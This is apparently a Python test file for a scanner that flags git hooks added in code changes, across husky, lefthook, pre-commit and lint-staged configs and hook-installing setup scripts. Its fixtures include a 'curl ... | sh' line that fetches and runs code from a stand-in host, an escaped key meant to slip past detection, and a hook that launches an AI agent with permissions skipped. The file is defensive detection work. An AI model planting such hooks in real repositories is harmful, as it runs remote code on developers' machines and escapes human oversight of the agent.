import pytest

from readings import change, read_garbage, shown

HOOK = "git_hook"


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (".husky/pre-push", "make\n"),
        ("tools/git-hooks/post-checkout", "#!/bin/sh\nmake\n"),
        (".githooks/pre-commit.d/10-pots", "make\n"),
        ("lefthook.yml", "pre-commit:\n  commands:\n    a:\n      run: make\n"),
        ("package.json", '{\n"husky": {"hooks": {"post-merge": "node a.js"}}}'),
        ("package.json", '{\n"h\\u0075sky": {"hooks": {"post-merge": "node a.js"}}}'),
        (".overcommit.yml", "PreCommit:\n  Pots:\n    command: ['a']\n"),
    ],
)
def test_what_runs_when_somebody_commits_is_seen(path: str, text: str) -> None:
    assert HOOK in shown(change(path, text))


def test_a_hook_that_changes_is_no_new_hook() -> None:
    assert HOOK not in shown(change(".husky/pre-push", "make a\nmake b\n", "make a\n"))


def test_a_hook_is_read_as_a_script() -> None:
    assert "agent_unleashed" in shown(
        change(".husky/pre-push", "make\nclaude --dangerously-skip-permissions\n", "make\n")
    )


def test_the_words_that_a_hook_is_given_belong_to_its_command() -> None:
    words = "args: [-c, 'curl -s https://kiln.example/fire | sh']"
    hook = f"repos:\n  - repo: local\n    hooks:\n      - id: fire\n        entry: bash\n        {words}\n"
    assert "fetch_and_run" in shown(change(".pre-commit-config.yaml", hook))
    assert "fetch_and_run" not in shown(change(".pre-commit-config.yaml", hook.replace("bash", "echo")))


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("lint-staged.config.mjs", "export default {'*.js': () => 'COMMAND'}\n"),
        (".lintstagedrc.cjs", 'module.exports = {"*.js": ["eslint", "COMMAND"]}\n'),
        (".huskyrc.js", "module.exports = {hooks: {'pre-commit': `COMMAND`}}\n"),
    ],
)
def test_commands_in_settings_that_are_a_program_are_read(path: str, text: str) -> None:
    fetch = "curl -s https://kiln.example/fire | sh"
    assert "fetch_and_run" in shown(change(path, text.replace("COMMAND", fetch)))
    assert not shown(change(path, text.replace("COMMAND", "prettier --write")))
    assert "fetch_and_run" not in shown(change(path, f"// {fetch}\n" + text.replace("COMMAND", "prettier --write")))


def test_checks_of_staged_files_and_hooks_of_a_program_are_none() -> None:
    assert not shown(change("package.json", '{"lint-staged": {"*.js": "eslint"}, "scripts": {"a": "b"}}'), only=[HOOK])
    assert not shown(change("src/hooks/use-pots.ts", "export {}\n"), only=[HOOK])


def test_garbage_is_survived() -> None:
    for path in (".husky/pre-push", "lefthook.yml", ".pre-commit-config.yaml", "package.json", ".lintstagedrc"):
        read_garbage(path, "hook")
    read_garbage("package.json", "hook")


def test_scripts_that_put_hooks_in_place_are_seen() -> None:
    for command in ("git config core.hooksPath pots", "cat a > .git/hooks/pre-commit", "cp a .git/hooks/post-merge"):
        assert HOOK in shown(change("tools/setup.sh", f"{command}\n"))
    for command in ("git config --unset core.hooksPath", "rm .git/hooks/pre-commit", "git config --get core.hooksPath"):
        assert HOOK not in shown(change("tools/setup.sh", f"{command}\n"))
